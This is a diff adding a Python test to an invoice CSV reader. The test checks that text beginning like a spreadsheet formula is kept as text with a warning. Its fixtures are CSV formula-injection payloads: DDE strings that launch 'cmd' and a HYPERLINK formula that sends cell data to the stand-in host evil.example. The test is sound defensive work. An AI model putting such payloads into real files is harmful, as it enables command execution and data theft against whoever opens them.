@@ -173,3 +173,22 @@ def test_a_csv_row_problem_names_the_line_of_the_file_as_a_workbook_names_its_ro
     listing = reader.read((title + "Наименование;Количество;Ед.\n" + rows).encode("cp1251"), "invoice.csv")
     (problem,) = listing.errors
     assert str(problem) == "row 4, column 'Количество': '1 2OO' is not a number (line 9 of the file)"
+
+
+def test_a_description_that_starts_like_a_spreadsheet_formula_is_kept_as_text_with_a_warning() -> None:
+    """/work/qa/06-formula.csv: such text passed silently; the report neutralises it, the broker should know."""
+    descriptions = [
+        "\"=cmd|'/C calc'!A0\"",
+        '"+HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "-20 °C chest freezer",
+        "Steel screws <script>alert(1)</script>",
+    ]
+    rows = "".join(f"{text},5,pcs,10,1,2,China\n" for text in descriptions)
+    listing = reader.read(("Description,Qty,Unit,Amount USD,Net kg,Gross kg,Country\n" + rows).encode(), "f.csv")
+    assert listing.lines[1].description == '+HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert [[str(p) for p in line.problems] for line in listing.lines] == [
+        [f"row {n}, column 'Description': starts like a spreadsheet formula; kept as text (line {n + 1} of the file)"]
+        for n in (1, 2, 3, 4)
+    ] + [[], []]
